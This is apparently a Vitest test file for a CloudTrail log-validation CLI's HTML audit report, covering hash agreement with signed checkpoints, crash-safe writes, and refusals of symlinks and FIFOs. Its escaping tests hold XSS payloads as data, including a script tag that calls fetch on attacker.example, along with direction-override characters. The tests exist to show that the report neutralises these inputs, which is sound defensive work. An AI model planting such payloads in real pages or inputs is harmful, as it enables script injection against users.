// The auditor's HTML report from the command line, run as a user runs it (the built command,
// real files, real exit codes): `validate-logs --report FILE.html` on a run, and `validate-logs
// report --from report.json` on a saved report. What it proves: the report's hash is the JSON
// report's canonical hash and the `report` line of the checkpoint written in the same run; a
// document rendered from the saved JSON is the run's, byte for byte; every string from storage
// is inert and bounded; --report never writes through a link, into a FIFO or over a folder.
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FINDING_CODES } from '../src/chain/findings.js';
import { jsonReportSha256, type JsonReportDocument } from '../src/report/document.js';
import { escapeText, MAX_TEXT_CHARS, renderReportHtml } from '../src/report/html.js';
import { EN } from '../src/report/strings.js';
import { MAX_REPORT_BYTES } from '../src/cli/report.js';
import { loopbackEnv, startAwsApi, startS3, uploadDir } from './helpers/aws.js';
import { VALIDATE, node, sampleArgs } from './helpers/cli.js';
import type { ListPublicKeysDocument } from './helpers/lib.js';
import { writeHistory } from './helpers/period.js';
import { ROOT, applyActions, copySample, tampering } from './helpers/tamper.js';

const t = tampering.trail;
const validateSchema = new Ajv2020({ allErrors: true, strict: false }).compile(JSON.parse(readFileSync(join(ROOT, 'schema', 'report.schema.json'), 'utf8')) as object);
let work: string;
const cleanups: Array<() => void> = [];

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'vl-report-html-'));
  execFileSync('openssl', ['genpkey', '-algorithm', 'ed25519', '-out', join(work, 'log.pem')]);
  execFileSync('openssl', ['pkey', '-in', join(work, 'log.pem'), '-pubout', '-out', join(work, 'log.pub.pem')]);
});
afterAll(() => {
  while (cleanups.length) cleanups.pop()!();
  rmSync(work, { recursive: true, force: true });
});

function bucket(): string {
  const c = copySample();
  cleanups.push(c.cleanup);
  return c.dir;
}
const fresh = (name: string): string => join(mkdtempSync(join(work, 'out-')), name);
const reportHash = (html: string): string => /<code id="report-sha256">([0-9a-f]{64})<\/code>/.exec(html)?.[1] ?? '';

describe('validate-logs --report', () => {
  it('the report hash equals the JSON report\'s canonical hash and the checkpoint\'s report line; report --from gives the same bytes', async () => {
    const dir = bucket();
    const html = fresh('report.html');
    const cp = fresh('cp.note');
    const r = await node(VALIDATE, sampleArgs(dir, ['--output', 'json', '--report', html, '--checkpoint-out', cp, '--checkpoint-key', join(work, 'log.pem'), '--checkpoint-name', 'example.com/log']));
    expect(r.status, r.stderr).toBe(0);
    expect(r.stderr).toContain(`report written to ${html}`);
    const doc = JSON.parse(r.stdout) as JsonReportDocument;
    expect(validateSchema(doc), JSON.stringify(validateSchema.errors)).toBe(true); // the run member is in the schema
    const page = readFileSync(html, 'utf8');
    const line = /^report ([0-9a-f]{64})$/m.exec(readFileSync(cp, 'utf8'))![1]!;
    expect(reportHash(page)).toBe(jsonReportSha256(doc));
    expect(reportHash(page)).toBe(line);
    expect(page).toContain('<code id="checkpoint-report">' + line + '</code>');
    expect(page).toContain(EN.integrity.checkpointAgrees);
    // The run's own record: when it ran, the keys, the checkpoint note as written.
    expect(doc.run!.checkpoint!.note).toBe(readFileSync(cp, 'utf8'));
    expect(doc.run!.keys.map((k) => k.fingerprint)).toContain('de75dfcbc7d83d280288b772f2d479d1');
    expect(Date.parse(doc.run!.finishedAt)).toBeGreaterThanOrEqual(Date.parse(doc.run!.startedAt));
    // A second person: the hash from the saved JSON, and the same document from it.
    const saved = fresh('report.json');
    writeFileSync(saved, r.stdout);
    const again = fresh('again.html');
    const s = await node(VALIDATE, ['report', '--from', saved, '--out', again, '--sha256']);
    expect(s.status, s.stderr).toBe(0);
    expect(s.stdout).toBe(`${line}\n`);
    expect(readFileSync(again, 'utf8')).toBe(page);
    // The verdict and scope come first, in words.
    expect(page.indexOf('<strong class="word">VALID</strong>')).toBeLessThan(page.indexOf('id="scope"'));
    expect(page.indexOf('id="scope"')).toBeLessThan(page.indexOf('id="coverage"'));
    expect(page).toContain('All 6 hours of us-east-1 verified: no log file was modified, deleted or added.');
    // Only strings from storage are cut at the bound, never the document's own words.
    expect(page).not.toContain('more characters)');
    for (const m of EN.method) expect(page).toContain(escapeText(m.text, Infinity));
  });

  it('a JSON report edited after the run, or given another run\'s checkpoint: the document shows its hash DIFFERS from the signed report line', async () => {
    const cp = fresh('cp.note');
    const r = await node(VALIDATE, sampleArgs(bucket(), ['--output', 'json', '--report', fresh('r.html'), '--checkpoint-out', cp, '--checkpoint-key', join(work, 'log.pem'), '--checkpoint-name', 'example.com/log']));
    expect(r.status, r.stderr).toBe(0);
    const valid = JSON.parse(r.stdout) as JsonReportDocument;
    const tampered = bucket();
    applyActions(tampered, tampering.cases.find((c) => c.name === 'log modified')!.actions);
    const invalid = JSON.parse((await node(VALIDATE, sampleArgs(tampered, ['--output', 'json', '--report', fresh('i.html')]))).stdout) as JsonReportDocument;
    const line = /^report ([0-9a-f]{64})$/m.exec(readFileSync(cp, 'utf8'))![1]!;
    const forgeries: JsonReportDocument[] = [
      { ...valid, findings: valid.findings.slice(1) }, // a log file's record dropped
      { ...invalid, ok: true, findings: invalid.findings.filter((f) => f.severity !== 'invalid'), run: valid.run! }, // the finding hidden, the valid run's checkpoint attached
    ];
    for (const forged of forgeries) {
      const file = fresh('forged.json');
      writeFileSync(file, JSON.stringify(forged));
      const out = fresh('forged.html');
      expect((await node(VALIDATE, ['report', '--from', file, '--out', out])).status).toBe(0);
      const page = readFileSync(out, 'utf8');
      expect(reportHash(page)).not.toBe(line);
      expect(page).toContain(`<code id="checkpoint-report">${line}</code>`);
      expect(page).toContain(EN.integrity.checkpointDiffers);
      expect(page).not.toContain(EN.integrity.checkpointAgrees);
    }
  });

  it('killed (SIGKILL) at any moment while it writes: the report is whole or the earlier one, never half-written', async () => {
    const dir = bucket();
    const html = fresh('report.html');
    writeFileSync(html, 'the earlier report');
    for (let i = 0; i < 8; i++) {
      const child = spawn(process.execPath, [VALIDATE, ...sampleArgs(dir, ['--report', html])], { stdio: 'ignore' });
      const closed = new Promise((r) => child.on('close', r)); // listened from the start: it may end before the kill
      await new Promise((r) => setTimeout(r, 150 + Math.floor(Math.random() * 600)));
      child.kill('SIGKILL');
      await closed;
      const text = readFileSync(html, 'utf8');
      expect(text === 'the earlier report' || (text.startsWith('<!DOCTYPE html>') && text.endsWith('</html>\n')), text.slice(-40)).toBe(true);
    }
  });

  it('straight from S3 (s3rver on loopback), every region, the keys fetched from CloudTrail: the scope says so', async () => {
    const keys = JSON.parse(readFileSync(join(ROOT, t.publicKeys), 'utf8')) as ListPublicKeysDocument;
    const api = await startAwsApi({ keys });
    const s3 = await startS3([t.bucket]);
    try {
      await uploadDir(s3, t.bucket, bucket());
      const html = fresh('online.html');
      const args = ['--trail-arn', t.trailArn, '--start-time', t.start, '--end-time', t.end, '--s3-bucket', t.bucket, '--endpoint-url', s3.url, '--regions', 'all', '--report', html, '--output', 'json'];
      const r = await node(VALIDATE, args, loopbackEnv(api.url));
      expect(r.status, r.stderr).toBe(0);
      const doc = JSON.parse(r.stdout) as JsonReportDocument;
      expect(doc.request!.source).toEqual({ type: 's3', endpoint: s3.url });
      const page = readFileSync(html, 'utf8');
      expect(page).toContain(`type: s3; endpoint: ${escapeText(s3.url)}`);
      expect(page).toContain('All 6 hours of us-east-1 verified: no log file was modified, deleted or added.');
      expect(doc.run!.keys.map((k) => k.fingerprint)).toEqual(keys.PublicKeyList.map((k) => k.Fingerprint));
      for (const k of doc.run!.keys) expect(page).toContain(`<span class="mono">${k.fingerprint}</span>`);
    } finally {
      await s3.close();
      await api.close();
    }
  });

  it('a modified log: INVALID first, the hour and the finding named, counts that do not look all green', async () => {
    const dir = bucket();
    applyActions(dir, tampering.cases.find((c) => c.name === 'log modified')!.actions);
    const html = fresh('report.html');
    const r = await node(VALIDATE, sampleArgs(dir, ['--report', html]));
    expect(r.status).toBe(1);
    const page = readFileSync(html, 'utf8');
    expect(page).toContain('<strong class="word">INVALID</strong>');
    expect(page).toContain('5 of 6 hours of us-east-1 verified (1 invalid).');
    expect(page).toContain('<code>LOG_<wbr>HASH_<wbr>MISMATCH</code>');
    expect(page).toContain(escapeText(EN.codes.LOG_HASH_MISMATCH.meaning));
    expect(page).toContain(escapeText(EN.codes.LOG_HASH_MISMATCH.action));
    expect(page).toMatch(/<td>Log files<\/td><td>9<\/td><td><span class="badge s-invalid">1<\/span><\/td>/);
    expect(page).not.toContain(EN.verdict.noneChanged);
    expect(page).toContain(EN.integrity.noCheckpoint.replace(/'/g, '&#39;'));
  });

  it('object names from storage are inert: markup, quotes, direction overrides, control characters', async () => {
    const dir = bucket();
    const folder = 'AWSLogs/111122223333/CloudTrail/us-east-1/2025/01/08';
    const names = [`<script>alert(1)"'&.json.gz`, 'evil\u202Egz.json\u2066x\u0007.gz', `<img src=x onerror=alert(2)>`];
    for (const n of names) {
      mkdirSync(join(dir, folder), { recursive: true });
      writeFileSync(join(dir, folder, n), gzipSync('{}'));
    }
    const html = fresh('report.html');
    const r = await node(VALIDATE, sampleArgs(dir, ['--report', html, '--output', 'json']));
    expect(r.status).toBe(1);
    const page = readFileSync(html, 'utf8');
    const body = page.slice(page.indexOf('<body>'));
    expect(body).not.toMatch(/<script|<img|\u202E|\u2066|\u0007/);
    expect(body).toContain('&#60;img src=x onerror=alert(2)&#62;');
    expect(body).toContain('&#60;script&#62;alert(1)');
    expect(body).toContain('‹U+202E›');
    expect(body).toContain('‹U+2066›');
    expect(body).toContain('‹U+0007›');
    // The same from the saved JSON.
    const saved = fresh('report.json');
    writeFileSync(saved, r.stdout);
    const again = fresh('again.html');
    expect((await node(VALIDATE, ['report', '--from', saved, '--out', again])).status).toBe(0);
    expect(readFileSync(again, 'utf8')).toBe(page);
  });

  it('a forged JSON report: its strings inert and bounded (a million-character name), its shape checked (exit 2 naming the member)', async () => {
    const dir = bucket();
    const r = await node(VALIDATE, sampleArgs(dir, ['--output', 'json']));
    const doc = JSON.parse(r.stdout) as JsonReportDocument;
    const evil = '</title><script>fetch("https://attacker.example/")</script>\u202E';
    const huge = `s3://${t.bucket}/${'k'.repeat(1_000_000)}`;
    const forged = {
      ...doc,
      version: evil,
      request: { ...doc.request!, trailArn: evil, bucket: evil, regions: [evil] },
      regions: doc.regions.map((x) => ({ ...x, region: evil })),
      findings: [...doc.findings.map((f) => ({ ...f, region: evil, message: evil.repeat(10_000) })), { ...doc.findings[0]!, code: 'OBJECT_UNEXPECTED', severity: 'invalid', kind: 'object', object: huge, key: huge.slice(20), region: evil }],
    };
    const file = fresh('forged.json');
    writeFileSync(file, JSON.stringify(forged));
    const out = fresh('forged.html');
    const s = await node(VALIDATE, ['report', '--from', file, '--out', out]);
    expect(s.status, s.stderr).toBe(0);
    const page = readFileSync(out, 'utf8');
    expect(page).not.toMatch(/<script|\u202E|https:\/\/attacker[^"]*"\)<\/script>/);
    expect(page.split('<title>').length).toBe(2);
    expect(page.length).toBeLessThan(2_000_000); // every message and name bounded
    expect(page).toContain(`${huge.slice(0, MAX_TEXT_CHARS)} … (${(huge.length - MAX_TEXT_CHARS).toLocaleString('en-US')} more characters)`);
    // Wrong shapes are refused, naming what is wrong; nothing is written.
    const cases: Array<[unknown, RegExp]> = [
      [{ ...doc, findings: [{ ...doc.findings[0], code: 'NOT_A_CODE' }] }, /findings\[0\]\.code is not a finding code/],
      [{ ...doc, tool: 'other' }, /tool is not "validate-logs"/],
      [{ ...doc, request: { ...doc.request, startTime: '2025-01-08T00:00:00Z<x>' } }, /request\.startTime is not a time/],
      [[1, 2], /is not a JSON object/],
    ];
    for (const [value, why] of cases) {
      writeFileSync(file, JSON.stringify(value));
      const bad = fresh('bad.html');
      const b = await node(VALIDATE, ['report', '--from', file, '--out', bad]);
      expect(b.status).toBe(2);
      expect(b.stderr).toMatch(why);
      expect(b.stderr.split('\n').filter(Boolean)).toHaveLength(1);
      expect(existsSync(bad)).toBe(false);
    }
  });

  it('--report at a symbolic link, a FIFO or a folder is refused before the run (exit 2), nothing written', async () => {
    const dir = bucket();
    const target = fresh('target.html');
    writeFileSync(target, 'keep me');
    const link = fresh('link.html');
    symlinkSync(target, link);
    const dangling = fresh('dangling.html');
    symlinkSync(join(work, 'nowhere.html'), dangling);
    const fifo = fresh('fifo.html');
    execFileSync('mkfifo', [fifo]);
    const folder = fresh('folder.html');
    mkdirSync(folder);
    for (const [path, kind] of [[link, 'a symbolic link'], [dangling, 'a symbolic link'], [fifo, 'a FIFO'], [folder, 'a folder']] as const) {
      const r = await node(VALIDATE, sampleArgs(dir, ['--report', path, '--output', 'json']), {});
      expect(r.status, path).toBe(2);
      expect(r.stderr).toContain(`validate-logs: error: --report ${path}: refusing to write ${path}: it is ${kind}`);
      // The JSON document still ends, saying what stopped the run.
      expect((JSON.parse(r.stdout) as { error: { code: string } }).error.code).toBe('USAGE');
    }
    expect(readFileSync(target, 'utf8')).toBe('keep me');
    expect(readlinkSync(link)).toBe(target);
    expect(existsSync(join(work, 'nowhere.html'))).toBe(false);
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    // report --out too.
    const saved = fresh('report.json');
    writeFileSync(saved, (await node(VALIDATE, sampleArgs(dir, ['--output', 'json']))).stdout);
    const r = await node(VALIDATE, ['report', '--from', saved, '--out', link]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(`--out ${link}: refusing to write ${link}: it is a symbolic link`);
    expect(readFileSync(target, 'utf8')).toBe('keep me');
  });

  it('report --from a FIFO, a device or a huge file is refused unread (exit 2)', async () => {
    const fifo = fresh('in.json');
    execFileSync('mkfifo', [fifo]);
    const out = fresh('out.html');
    const big = fresh('big.json');
    writeFileSync(big, '');
    truncateSync(big, MAX_REPORT_BYTES + 1); // sparse: refused by its size, never read
    for (const [from, why] of [[fifo, /a FIFO \(named pipe\), not a regular file/], ['/dev/zero', /a character device, not a regular file/], [join(work, 'absent.json'), /no such file/], [big, /larger than 268435456 bytes/]] as const) {
      const r = await node(VALIDATE, ['report', '--from', from, '--out', out]);
      expect(r.status, from).toBe(2);
      expect(r.stderr).toMatch(why);
    }
    expect(existsSync(out)).toBe(false);
    const r = await node(VALIDATE, ['report', '--from', fifo]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('validate-logs report needs --out FILE.html (or --sha256)');
  });
});

describe('the document model', () => {
  it('has a meaning and an action for every finding code, and every hour state', () => {
    for (const code of FINDING_CODES) {
      expect(EN.codes[code].meaning.length, code).toBeGreaterThan(10);
      expect(EN.codes[code].action.length, code).toBeGreaterThan(3);
    }
    expect(Object.keys(EN.codes).sort()).toEqual([...FINDING_CODES].sort());
  });

  it('escapes and bounds any string: markup, every control and direction character, lone surrogates', () => {
    expect(escapeText('<a href="x">\'&\'</a>')).toBe('&#60;a href=&#34;x&#34;&#62;&#39;&#38;&#39;&#60;/a&#62;');
    for (const c of ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C', '\u0000', '\u001B', '\u007F', '\u0085', '\uFEFF']) {
      expect(escapeText(`a${c}b`)).toBe(`a‹U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}›b`);
    }
    expect(escapeText('x\uD800y')).toBe('x\uFFFDy');
    const huge = 'k'.repeat(10_000_000);
    const shown = escapeText(huge);
    expect(shown.length).toBeLessThan(MAX_TEXT_CHARS + 64);
    expect(shown).toContain('(9,999,488 more characters)');
  });

  it('is made from the report alone: the same report gives the same bytes, whatever the clock', async () => {
    const dir = bucket();
    const doc = JSON.parse((await node(VALIDATE, sampleArgs(dir, ['--output', 'json', '--report', fresh('r.html')]))).stdout) as JsonReportDocument;
    const a = renderReportHtml(doc);
    await new Promise((r) => setTimeout(r, 1100));
    expect(renderReportHtml(structuredClone(doc))).toBe(a);
    expect(a).toContain(`${doc.run!.startedAt.slice(0, 10)} ${doc.run!.startedAt.slice(11, 16)} UTC`);
  });
});

describe('validate-logs report --history (a period report)', () => {
  it('says how much of the period was verified and how soon, the findings and when they were alerted, the watch gaps; equal to the history answer rendered from a file', async () => {
    const state = join(mkdtempSync(join(work, 'state-')), 'state');
    await writeHistory(state);
    const html = fresh('period.html');
    const period = ['--from', '2026-12-01T00:00:00Z', '--to', '2026-12-01T09:00:00Z'];
    const r = await node(VALIDATE, ['report', '--history', state, ...period, '--out', html, '--sha256']);
    expect(r.status, r.stderr).toBe(0);
    const page = readFileSync(html, 'utf8');
    expect(page).toContain('<strong class="word">INVALID</strong>');
    // eu-west-1's digest of 01:21-02:21 was never verified: its hours 01 and 02 are not covered whole.
    expect(page).toContain('12 of 14 hours due in the period verified, 85.7 % within 2 h of delivery.');
    expect(page).toContain('1 pass found something invalid or could not read the trail; the first alerted at 2026-12-01 03:00 UTC.');
    expect(page).toContain('5f2b9c0e8a7d4c1b9e3f6a2d8c4b7e10');
    expect(page).toContain(EN.period.gapWhere.between);
    expect(page).toContain(escapeText(EN.period.method, Infinity)); // whole, however long
    expect(page).not.toContain('more characters)');
    for (const id of ['PCI DSS 4.0.1 10.3.4', 'SOC 2 CC7.2', 'ISO/IEC 27001:2022 A.8.15']) expect(page).toContain(`<h3 class="nw">${escapeText(id)}</h3>`);
    // The history answer, saved by validate-logs history: the same hash, the same document.
    const h = await node(VALIDATE, ['history', '--state', state, ...period, '--output', 'json']);
    expect(h.status).toBe(1); // a missing hour and a pass with findings
    const answer = JSON.parse(h.stdout) as import('../src/watch/history.js').HistoryAnswer;
    expect([answer.summary.hoursVerified, answer.summary.hoursExpected, answer.summary.verifiedWithin]).toEqual([12, 14, 12]);
    const { historyAnswerSha256 } = await import('../src/report/document.js');
    expect(r.stdout).toBe(`${historyAnswerSha256(answer)}\n`);
    expect(reportHash(page)).toBe(historyAnswerSha256(answer));
    const saved = fresh('history.json');
    writeFileSync(saved, h.stdout);
    const again = fresh('again.html');
    expect((await node(VALIDATE, ['report', '--from', saved, '--out', again])).status).toBe(0);
    expect(readFileSync(again, 'utf8')).toBe(page);
    // A forged answer is checked like a forged report.
    writeFileSync(saved, JSON.stringify({ ...answer, chains: [{ ...answer.chains[0], hours: [{ hour: '<x>', status: 'verified' }] }] }));
    const bad = await node(VALIDATE, ['report', '--from', saved, '--out', again]);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toContain('chains[0].hours[0].hour is not a UTC time');
    // Usage: the period is required, and period flags need --history.
    expect((await node(VALIDATE, ['report', '--history', state, '--from', '2026-12-01', '--out', again])).stderr).toContain('--history needs --from TIME and --to TIME');
    expect((await node(VALIDATE, ['report', '--from', saved, '--to', '2026-12-02', '--out', again])).stderr).toContain('--to is for a period report: give --history STATE');
  });
});
